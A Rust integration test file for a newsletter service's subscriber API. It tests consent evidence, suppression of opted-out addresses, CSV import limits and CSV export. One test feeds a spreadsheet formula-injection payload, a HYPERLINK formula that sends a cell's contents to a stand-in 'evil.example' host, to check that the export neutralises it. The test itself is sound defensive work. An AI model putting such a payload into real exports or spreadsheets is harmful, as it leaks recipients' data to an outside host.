//! Subscribers by API and CSV: consent evidence required for confirmed adds (CS-3), opted-out,
//! erased and suppressed addresses never brought back (CS-10, CS-11), a streamed import with
//! per-line errors, an export of mailable subscribers only.

mod common;

use std::time::Duration;

use common::flows::confirmed;
use common::{NEWS, TestApp, WAIT, spawn_with_lists};
use reqwest::{Method, StatusCode};

/// An app with the list news, and an API key.
async fn app() -> (TestApp, String) {
    let app = spawn_with_lists(&[NEWS]).await;
    let key = app.create_api_key().await;
    (app, key)
}

/// Adds a subscriber through the API.
async fn add(app: &TestApp, key: &str, body: serde_json::Value) -> reqwest::Response {
    app.api_post(key, "/api/v1/subscribers", &body).await
}

/// Imports `csv` into the list news (`query`: the query string, if any).
/// The line numbers an import report's errors name.
fn error_lines(report: &serde_json::Value) -> Vec<i64> {
    report["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["line"].as_i64().unwrap())
        .collect()
}

async fn import(app: &TestApp, key: &str, query: &str, csv: String) -> (StatusCode, serde_json::Value) {
    let path = format!("/api/v1/lists/news/subscribers/import{query}");
    let res = app
        .api(key, Method::POST, &path)
        .header("Content-Type", "text/csv")
        .body(csv)
        .send()
        .await
        .unwrap();
    let status = res.status();
    (status, res.json().await.unwrap_or_default())
}

/// CS-3: confirmed needs consent evidence; pending sends a confirmation.
#[tokio::test]
async fn cs3_a_confirmed_add_needs_consent_evidence() {
    let (app, key) = app().await;
    let res = add(
        &app,
        &key,
        serde_json::json!({"email": "a@example.org", "lists": ["news"], "status": "confirmed"}),
    )
    .await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let p: serde_json::Value = res.json().await.unwrap();
    assert!(
        p["errors"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["field"] == "consented_at")
    );
    let res = add(
        &app,
        &key,
        serde_json::json!({"email": "a@example.org", "name": "Ann", "lists": ["news"], "status": "confirmed",
                           "consented_at": "2025-05-01T10:00:00Z", "consent_source": "paper form at the fair"}),
    )
    .await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let s: serde_json::Value = res.json().await.unwrap();
    assert_eq!(s["subscriptions"][0]["status"], "confirmed");
    assert_eq!(
        app.query_i64("SELECT COUNT(*) FROM consent_events WHERE kind = 'api_add' AND source = 'paper form at the fair' AND occurred_at < '2025-05-02'").await,
        1
    );
    let res = add(
        &app,
        &key,
        serde_json::json!({"email": "b@example.org", "lists": ["news"], "status": "pending"}),
    )
    .await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let msgs = app.sink.wait_for(1, WAIT).await;
    assert_eq!(msgs[0].rcpt_to, vec!["b@example.org".to_string()]);
    assert_eq!(app.subscription_status("b@example.org", "news").await, "pending");
    let id = s["id"].as_str().unwrap();
    let got: serde_json::Value = app
        .api_get(&key, &format!("/api/v1/subscribers/{id}"))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(got["name"], "Ann");
    let res = app
        .api_patch(
            &key,
            &format!("/api/v1/subscribers/{id}"),
            &serde_json::json!({"name": "Anne"}),
        )
        .await;
    assert_eq!(res.json::<serde_json::Value>().await.unwrap()["name"], "Anne");
    let res = app
        .api_patch(
            &key,
            &format!("/api/v1/subscribers/{id}"),
            &serde_json::json!({"email": "x@example.org"}),
        )
        .await;
    assert_eq!(
        res.status(),
        StatusCode::UNPROCESSABLE_ENTITY,
        "GD-2: no address change without confirmation"
    );
}

/// CS-10, CS-11: opted-out, erased and suppressed addresses are neither added back nor listed.
#[tokio::test]
async fn cs11_no_add_or_import_brings_back_an_opted_out_address() {
    let (app, key) = app().await;
    let news = app.list_id("news").await;
    let left = confirmed(&app, "left@example.org", &["news"]).await;
    app.one_click_unsubscribe(left, news).await;
    let erased = confirmed(&app, "erased@example.org", &["news"]).await;
    app.post(&format!("{}/erase", app.preferences_path(erased))).await;
    app.suppress(&key, "complainer@example.org", "complaint").await;
    confirmed(&app, "stays@example.org", &["news"]).await;

    for email in ["left@example.org", "Erased@example.org", "complainer@example.org"] {
        let res = add(
            &app,
            &key,
            serde_json::json!({"email": email, "lists": ["news"], "status": "confirmed", "consented_at": "2025-01-01", "consent_source": "crm"}),
        )
        .await;
        assert_eq!(res.status(), StatusCode::CONFLICT, "{email}");
    }
    let csv = "email,name,consented_at,consent_source\n\
               left@example.org,,2025-01-01,crm\n\
               erased@example.org,,2025-01-01,crm\n\
               complainer@example.org,,2025-01-01,crm\n\
               stays@example.org,,2025-01-01,crm\n"
        .to_string();
    let (code, report) = import(&app, &key, "", csv).await;
    assert_eq!(code, StatusCode::OK);
    assert_eq!(
        (report["imported"].as_i64(), report["skipped"].as_i64()),
        (Some(0), Some(4)),
        "{report}"
    );
    assert_eq!(
        app.subscription_status("left@example.org", "news").await,
        "unsubscribed"
    );
    assert_eq!(app.query_i64("SELECT COUNT(*) FROM subscribers WHERE email_key IN ('erased@example.org', 'complainer@example.org')").await, 0);

    // Listings and exports meant for mailing show only mailable people.
    let list: serde_json::Value = app
        .api_get(&key, "/api/v1/subscribers?list=news")
        .await
        .json()
        .await
        .unwrap();
    let emails: Vec<&str> = list["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["email"].as_str().unwrap())
        .collect();
    assert_eq!(emails, vec!["stays@example.org"]);
    let export = app.api_get(&key, "/api/v1/lists/news/subscribers/export").await;
    assert_eq!(export.headers()["content-type"], "text/csv; charset=utf-8");
    assert_eq!(export.text().await.unwrap(), "email,name\r\nstays@example.org,\n");
}

/// The export neutralises cells a spreadsheet would run as formulas (OWASP's CSV injection):
/// names from public signups, and addresses whose local part starts with `=`.
#[tokio::test]
async fn the_export_writes_no_cell_a_spreadsheet_would_run() {
    let (app, key) = app().await;
    let people = [
        (
            "a@example.org",
            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")",
        ),
        ("b@example.org", "+1+2"),
        ("c@example.org", "-2+3"),
        ("d@example.org", "@SUM(A1:A9)"),
        ("e@example.org", "\tTabbed"),
        ("=f@example.org", "Plain Name"),
    ];
    for (email, name) in people {
        let res = add(
            &app,
            &key,
            serde_json::json!({"email": email, "name": name, "lists": ["news"],
            "status": "confirmed", "consented_at": "2025-01-01T00:00:00Z", "consent_source": "crm"}),
        )
        .await;
        assert_eq!(res.status(), StatusCode::CREATED, "{email}");
    }
    let csv = app
        .api_get(&key, "/api/v1/lists/news/subscribers/export")
        .await
        .text()
        .await
        .unwrap();
    use futures::StreamExt;
    let mut reader = csv_async::AsyncReader::from_reader(csv.as_bytes());
    let rows: Vec<(String, String)> = reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            (r[0].to_owned(), r[1].to_owned())
        })
        .collect()
        .await;
    assert_eq!(rows.len(), people.len(), "{csv}");
    for (email, name) in &rows {
        for cell in [email, name] {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {csv}"
            );
        }
    }
    assert!(rows.contains(&(
        "a@example.org".into(),
        "'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")".into()
    )));
    assert!(rows.contains(&("'=f@example.org".into(), "Plain Name".into())));
}

/// The import: counts, per-line errors, refusal without evidence (CS-3), `?confirm=send`.
#[tokio::test]
async fn an_import_reports_counts_and_line_errors() {
    let (app, key) = app().await;
    let csv = "email,name,consented_at,consent_source\n\
               one@example.org,One,2025-02-03T04:05:06Z,newsletter form\n\
               not-an-address,,2025-01-01,crm\n\
               noevidence@example.org,,,\n\
               half@example.org,,2025-01-01,\n\
               one@example.org,One again,2025-02-03,newsletter form\n\
               zoe@example.org,Zoë,2025-03-01,event\n"
        .to_string();
    let (code, report) = import(&app, &key, "", csv.clone()).await;
    assert_eq!(code, StatusCode::OK);
    assert_eq!(report["imported"], 2, "{report}");
    assert_eq!(report["skipped"], 1);
    assert_eq!(error_lines(&report), vec![3, 4, 5]);
    assert!(
        report["errors"][1]["reason"]
            .as_str()
            .unwrap()
            .contains("no consent evidence")
    );
    assert_eq!(
        app.subscription_status("zoe@example.org", "news").await,
        "confirmed"
    );
    assert!(
        app.sink.messages().is_empty(),
        "imports with evidence send nothing"
    );

    // A quoted field over two lines: errors name the physical line a row starts on.
    let csv = "email,name,consented_at,consent_source\n\
               multi@example.org,\"Ann\nSmith\",2025-01-01,crm\n\
               broken-address,,2025-01-01,crm\n"
        .to_string();
    let (_, report) = import(&app, &key, "", csv).await;
    assert_eq!(error_lines(&report), vec![2, 4], "{report}");

    let (_, report) = import(&app, &key, "?confirm=send", "email\nask@example.org\n".into()).await;
    assert_eq!(report["imported"], 1);
    assert_eq!(
        app.subscription_status("ask@example.org", "news").await,
        "pending"
    );
    let msgs = app.sink.wait_for(1, WAIT).await;
    assert_eq!(msgs[0].rcpt_to, vec!["ask@example.org".to_string()]);

    let (code, _) = import(&app, &key, "", "name\nx\n".into()).await;
    assert_eq!(code, StatusCode::BAD_REQUEST, "no email column");
    // A file upload form is not read as CSV: a clear 415, nothing imported.
    let res = app
        .api(&key, Method::POST, "/api/v1/lists/news/subscribers/import")
        .multipart(reqwest::multipart::Form::new().text(
            "file",
            "email,consented_at,consent_source\nform@example.org,2025-01-01,crm\n",
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    let problem: serde_json::Value = res.json().await.unwrap();
    assert!(
        problem["detail"].as_str().unwrap().contains("text/csv"),
        "{problem}"
    );
    assert_eq!(
        app.query_i64("SELECT COUNT(*) FROM subscribers WHERE email = 'form@example.org'")
            .await,
        0
    );
    let res = app
        .api(&key, Method::POST, "/api/v1/lists/nope/subscribers/import")
        .body("email\n")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::NOT_FOUND);
    let res = app
        .http
        .post(app.url("/api/v1/lists/news/subscribers/import"))
        .body("email\n")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
}

/// A large import streams (bigger than the 1 MiB limit of other routes) and lands completely.
#[tokio::test]
async fn a_large_import_streams_past_the_body_limit() {
    let (app, key) = app().await;
    const N: usize = 9_000;
    let mut csv = String::from("email,name,consented_at,consent_source\n");
    for i in 0..N {
        csv.push_str(&format!(
            "reader{i}@example.org,Reader Number {i} With A Rather Long Name,2025-01-01T00:00:00Z,legacy CRM export of the spring fair 2024\n"
        ));
    }
    assert!(csv.len() > 1024 * 1024);
    let started = std::time::Instant::now();
    let (code, report) = import(&app, &key, "", csv).await;
    assert_eq!(code, StatusCode::OK);
    assert_eq!(report["imported"], N as i64, "{report}");
    eprintln!("imported {N} rows in {:?}", started.elapsed());
    assert_eq!(
        app.query_i64("SELECT COUNT(*) FROM subscriptions WHERE status = 'confirmed'")
            .await,
        N as i64
    );
    tokio::time::sleep(Duration::from_millis(10)).await;
}

/// An import of many chunks (written several at a time on PostgreSQL) takes an address given
/// twice in the file's order, whatever its spelling: the first row creates the person, the
/// later one's different name waits for the owner's confirmation, and every other row lands
/// once with its evidence.
#[tokio::test]
async fn an_address_given_twice_far_apart_is_taken_in_the_files_order() {
    let (app, key) = app().await;
    const FILLER: usize = 3_000;
    let mut csv = String::from("email,name,consented_at,consent_source\n");
    csv.push_str("Ada@Example.org,Ada,2025-01-01,crm\n");
    for i in 0..FILLER {
        csv.push_str(&format!("reader{i}@example.org,Reader {i},2025-01-01,crm\n"));
    }
    csv.push_str("ADA@example.org,Ada Lovelace,2025-01-02,crm\n");
    let (code, report) = import(&app, &key, "", csv).await;
    assert_eq!(code, StatusCode::OK);
    assert_eq!(report["imported"], FILLER as i64 + 1, "{report}");
    assert_eq!(report["skipped"], 1, "the second Ada is already there");
    assert_eq!(
        app.query_i64(
            "SELECT COUNT(*) FROM subscribers WHERE email_key = 'ada@example.org' \
             AND name = 'Ada' AND pending_name = 'Ada Lovelace'"
        )
        .await,
        1,
        "the later row's name waits; the first row's is on file"
    );
    assert_eq!(
        app.query_i64("SELECT COUNT(*) FROM subscriptions WHERE status = 'confirmed'")
            .await,
        FILLER as i64 + 1
    );
    assert_eq!(
        app.query_i64("SELECT COUNT(*) FROM consent_events WHERE kind = 'import'")
            .await,
        FILLER as i64 + 1
    );
}

/// Hostile uploads: a field or a row past its bound is a per-line error naming the line it
/// starts on (the rows around it land), and an upload past `IMPORT_MAX_MB` is a 413: at once
/// when its length is declared, at the limit when it streams, with the rows before it taken.
#[tokio::test]
async fn an_import_bounds_fields_rows_and_the_upload() {
    let app = common::spawn(common::Spawn {
        lists: vec![NEWS],
        overrides: vec![("IMPORT_MAX_MB", "1".into())],
        ..Default::default()
    })
    .await;
    let key = app.create_api_key().await;
    let row = |email: &str, name: &str| format!("{email},{name},2025-01-01,crm\n");
    let huge = "x".repeat(200_000);
    let csv = [
        "email,name,consented_at,consent_source\n".to_owned(),
        row("before@example.org", "Before"),
        row("longname@example.org", &"n".repeat(2_000)),
        row("longrow@example.org", &format!("\"{huge}\n{huge}\"")),
        row("after@example.org", "After"),
    ]
    .concat();
    let (code, report) = import(&app, &key, "", csv).await;
    assert_eq!(code, StatusCode::OK, "{report}");
    assert_eq!(report["imported"], 2, "{report}");
    assert_eq!(error_lines(&report), vec![3, 4], "{report}");
    assert!(
        report["errors"][0]["reason"]
            .as_str()
            .unwrap()
            .contains("longer than 1 KiB")
    );
    assert!(
        report["errors"][1]["reason"]
            .as_str()
            .unwrap()
            .contains("longer than 64 KiB")
    );
    assert_eq!(
        app.subscription_status("after@example.org", "news").await,
        "confirmed"
    );

    // Declared too large: refused before anything is read.
    let mut big = String::from("email,name,consented_at,consent_source\n");
    let mut i = 0;
    while big.len() <= 1024 * 1024 {
        big.push_str(&row(&format!("big{i}@example.org"), "Big"));
        i += 1;
    }
    let (code, problem) = import(&app, &key, "", big.clone()).await;
    assert_eq!(code, StatusCode::PAYLOAD_TOO_LARGE);
    assert!(
        problem["detail"].as_str().unwrap().contains("IMPORT_MAX_MB"),
        "{problem}"
    );
    assert_eq!(
        app.query_i64("SELECT COUNT(*) FROM subscribers WHERE email LIKE 'big%'")
            .await,
        0
    );

    // Streamed without a length: cut off at the limit, saying what was taken.
    let chunks: Vec<Result<String, std::io::Error>> = big
        .as_bytes()
        .chunks(64 * 1024)
        .map(|c| Ok(String::from_utf8(c.to_vec()).unwrap()))
        .collect();
    let res = app
        .api(&key, Method::POST, "/api/v1/lists/news/subscribers/import")
        .header("Content-Type", "text/csv")
        .body(reqwest::Body::wrap_stream(futures::stream::iter(chunks)))
        .send()
        .await;
    let taken = app
        .query_i64("SELECT COUNT(*) FROM subscribers WHERE email LIKE 'big%'")
        .await;
    assert!(taken > 0 && taken < i64::from(i), "{taken} of {i}");
    // The server answers as soon as the limit is passed and closes the connection: a client
    // still writing may see the connection reset before it reads the answer.
    if let Ok(res) = res {
        assert_eq!(res.status(), StatusCode::PAYLOAD_TOO_LARGE);
        let problem: serde_json::Value = res.json().await.unwrap();
        let detail = problem["detail"].as_str().unwrap();
        assert!(detail.contains(&format!("{taken} imported")), "{problem}");
    }
}

/// Deleting a subscriber through the API is an erasure.
#[tokio::test]
async fn deleting_a_subscriber_erases_them() {
    let (app, key) = app().await;
    let id = confirmed(&app, "gone@example.org", &["news"]).await;
    let res = app.api_delete(&key, &format!("/api/v1/subscribers/{id}")).await;
    assert_eq!(res.status(), StatusCode::NO_CONTENT);
    assert_eq!(app.query_i64("SELECT COUNT(*) FROM subscribers").await, 0);
    assert_eq!(
        app.query_i64("SELECT COUNT(*) FROM suppressions WHERE reason = 'erased'")
            .await,
        1
    );
    let res = app.api_get(&key, &format!("/api/v1/subscribers/{id}")).await;
    assert_eq!(res.status(), StatusCode::NOT_FOUND);
}

/// Lists: a duplicate slug is 409; a list can be renamed and hidden (a hidden list is neither
/// offered on the form nor open to signups) and deleted.
#[tokio::test]
async fn lists_can_be_renamed_hidden_and_deleted() {
    let (app, key) = app().await;
    let res = app
        .api_post(
            &key,
            "/api/v1/lists",
            &serde_json::json!({"slug": "news", "name": "Again"}),
        )
        .await;
    assert_eq!(res.status(), StatusCode::CONFLICT);
    let res = app
        .api_patch(
            &key,
            "/api/v1/lists/news",
            &serde_json::json!({"name": "Monthly News", "public": false}),
        )
        .await;
    assert_eq!(res.status(), StatusCode::OK);
    let l: serde_json::Value = res.json().await.unwrap();
    assert_eq!(
        (l["name"].as_str(), l["public"].as_bool()),
        (Some("Monthly News"), Some(false))
    );
    let form = app.page("/subscribe").await;
    assert!(!form.contains("Monthly News"), "a hidden list is not offered");
    let signup = serde_json::json!({"email": "x@example.org", "list": ["news"], "consent": true, "age_confirmed": true});
    assert_eq!(
        app.post_json("/subscribe", &signup).await.status(),
        StatusCode::UNPROCESSABLE_ENTITY,
        "signups only to public lists"
    );
    let res = app.api_delete(&key, "/api/v1/lists/news").await;
    assert_eq!(res.status(), StatusCode::NO_CONTENT);
    let res = app.api_get(&key, "/api/v1/lists/news").await;
    assert_eq!(res.status(), StatusCode::NOT_FOUND);
}

/// A long import must not starve the request path (SQLite has one write lock): each of its
/// chunks waits while a request's writer waits for the lock. Here an import chunk and a
/// request writer both wait for a transaction that holds the lock; when it ends, the request
/// writer goes first, although the chunk, asking later, wakes sooner from SQLite's busy
/// handler. (On PostgreSQL writers of different rows do not exclude each other: both go.)
#[tokio::test]
async fn an_import_chunk_lets_a_waiting_request_writer_go_first() {
    use letterhead::store;
    use std::sync::{Arc, Mutex};

    let db = common::TestDb::new().await;
    let conn = store::connect(&db.url).await.unwrap();
    store::migrate(&conn).await.unwrap();
    let order = Arc::new(Mutex::new(Vec::new()));
    let holder = store::begin_write(&conn).await.unwrap();
    let request = tokio::spawn({
        let (conn, order) = (conn.clone(), order.clone());
        async move {
            let tx = store::begin_write(&conn).await.unwrap();
            order.lock().unwrap().push("request");
            tokio::time::sleep(Duration::from_millis(20)).await;
            tx.commit().await.unwrap();
        }
    });
    // The request writer is in SQLite's busy handler, by now 100 ms between tries (at about
    // 328 and 428 ms); the chunk, new to it, tries after 1, 3, 8 and 18 ms.
    tokio::time::sleep(Duration::from_millis(400)).await;
    let chunk = tokio::spawn({
        let (conn, order) = (conn.clone(), order.clone());
        async move {
            let tx = store::begin_bulk_write(&conn).await.unwrap();
            order.lock().unwrap().push("import chunk");
            tx.commit().await.unwrap();
        }
    });
    tokio::time::sleep(Duration::from_millis(10)).await;
    holder.commit().await.unwrap();
    request.await.unwrap();
    chunk.await.unwrap();
    let order = order.lock().unwrap().clone();
    if db.is_postgres() {
        assert_eq!(order.len(), 2);
    } else {
        assert_eq!(order, ["request", "import chunk"]);
    }
}

/// Subscriptions and consent events only ever name a subscriber and a list that exist (on
/// PostgreSQL checked per statement, on SQLite by foreign keys), never move to another, and go
/// with their subscriber; a deleted list takes its subscriptions and leaves its evidence unlinked.
#[tokio::test]
async fn subscriptions_and_evidence_belong_to_people_and_lists_that_exist() {
    use sea_orm::ConnectionTrait;
    let (app, key) = app().await;
    let csv = "email,consented_at,consent_source\n\
               ann@example.org,2025-01-01T00:00:00Z,fair\n\
               bob@example.org,2025-01-01T00:00:00Z,fair\n";
    let (status, report) = import(&app, &key, "", csv.into()).await;
    assert_eq!(status, StatusCode::OK, "{report}");
    assert_eq!(report["imported"], 2, "{report}");
    let db = &app.state.db;
    let ann = app
        .query_i64("SELECT id FROM subscribers WHERE email_key = 'ann@example.org'")
        .await;
    let list = app.query_i64("SELECT id FROM lists WHERE slug = 'news'").await;
    let now = "'2026-01-01 00:00:00+00:00'";

    for refused in [
        format!(
            "INSERT INTO subscriptions (subscriber_id, list_id, status, created_at) VALUES (999999, {list}, 'confirmed', {now})"
        ),
        format!(
            "INSERT INTO subscriptions (subscriber_id, list_id, status, created_at) VALUES ({ann}, 999999, 'confirmed', {now})"
        ),
        format!(
            "INSERT INTO consent_events (subscriber_id, list_id, kind, occurred_at, source) VALUES (999999, NULL, 'import', {now}, 'x')"
        ),
        format!(
            "INSERT INTO consent_events (subscriber_id, list_id, kind, occurred_at, source) VALUES ({ann}, 999999, 'import', {now}, 'x')"
        ),
        format!("UPDATE subscriptions SET subscriber_id = 999999 WHERE subscriber_id = {ann}"),
        format!("UPDATE consent_events SET list_id = 999999 WHERE subscriber_id = {ann}"),
    ] {
        let err = db.execute_unprepared(&refused).await.expect_err(&refused);
        assert!(
            err.to_string().to_lowercase().contains("foreign key"),
            "{refused}: {err}"
        );
    }
    // Evidence about no list in particular is taken.
    db.execute_unprepared(&format!(
        "INSERT INTO consent_events (subscriber_id, list_id, kind, occurred_at, source) VALUES ({ann}, NULL, 'import', {now}, 'x')"
    ))
    .await
    .unwrap();

    db.execute_unprepared(&format!("DELETE FROM subscribers WHERE id = {ann}"))
        .await
        .unwrap();
    let of_ann = |table: &str| format!("SELECT COUNT(*) FROM {table} WHERE subscriber_id = {ann}");
    assert_eq!(app.query_i64(&of_ann("subscriptions")).await, 0);
    assert_eq!(app.query_i64(&of_ann("consent_events")).await, 0);
    assert_eq!(app.query_i64("SELECT COUNT(*) FROM subscriptions").await, 1);

    db.execute_unprepared(&format!("DELETE FROM lists WHERE id = {list}"))
        .await
        .unwrap();
    assert_eq!(app.query_i64("SELECT COUNT(*) FROM subscriptions").await, 0);
    assert_eq!(
        app.query_i64("SELECT COUNT(*) FROM consent_events WHERE list_id IS NULL")
            .await,
        app.query_i64("SELECT COUNT(*) FROM consent_events").await,
    );
    assert!(
        app.query_i64("SELECT COUNT(*) FROM consent_events").await >= 1,
        "bob's evidence stays"
    );
}

/// On PostgreSQL the statement trigger that locks new rows' subscribers finds them by key, also
/// at a size where the planner prices reading the whole table below 500 lookups (a few
/// thousand rows; the table is cached, so the lookups are far cheaper than it thinks): it never
/// reads the whole table (migration 000015). Eight statements, past the five plans PL/pgSQL
/// makes before it may keep one.
#[tokio::test]
async fn the_parent_lock_reads_subscribers_by_key_whatever_the_statistics_say() {
    use letterhead::store;
    use sea_orm::{ConnectionTrait, TransactionTrait};

    let db = common::TestDb::new().await;
    if !db.is_postgres() {
        return; // SQLite checks each row by its parent's key in the same pass (foreign keys).
    }
    let conn = store::connect(&db.url).await.unwrap();
    store::migrate(&conn).await.unwrap();
    let tx = conn.begin().await.unwrap();
    let people = |from: i64, to: i64| {
        format!(
            "INSERT INTO subscribers (id, uuid, email, email_key, address_hmac, created_at, updated_at) \
             SELECT g, gen_random_uuid(), 'p' || g || '@example.org', 'p' || g || '@example.org', \
             md5(g::text), now(), now() FROM generate_series({from}, {to}) g"
        )
    };
    tx.execute_unprepared("INSERT INTO lists (id, slug, name, created_at) VALUES (1, 'news', 'News', now())")
        .await
        .unwrap();
    tx.execute_unprepared(&people(1, 20)).await.unwrap();
    tx.execute_unprepared("ANALYZE subscribers").await.unwrap();
    tx.execute_unprepared(&people(21, 8_000)).await.unwrap();
    let seq_scans = || async {
        let row = tx
            .query_one_raw(sea_orm::Statement::from_string(
                sea_orm::DbBackend::Postgres,
                "SELECT seq_scan FROM pg_stat_xact_user_tables WHERE relname = 'subscribers'",
            ))
            .await
            .unwrap()
            .unwrap();
        row.try_get_by_index::<i64>(0).unwrap()
    };
    let before = seq_scans().await;
    for round in 0..8 {
        let first = 1 + round * 500;
        tx.execute_unprepared(&format!(
            "INSERT INTO subscriptions (subscriber_id, list_id, status, created_at) \
             SELECT g, 1, 'confirmed', now() FROM generate_series({first}, {}) g",
            first + 499
        ))
        .await
        .unwrap();
    }
    assert_eq!(seq_scans().await, before, "no lock read the whole table");
    assert_eq!(
        tx.query_one_raw(sea_orm::Statement::from_string(
            sea_orm::DbBackend::Postgres,
            "SELECT COUNT(*) FROM subscriptions"
        ))
        .await
        .unwrap()
        .unwrap()
        .try_get_by_index::<i64>(0)
        .unwrap(),
        4_000
    );
    tx.rollback().await.unwrap();
}
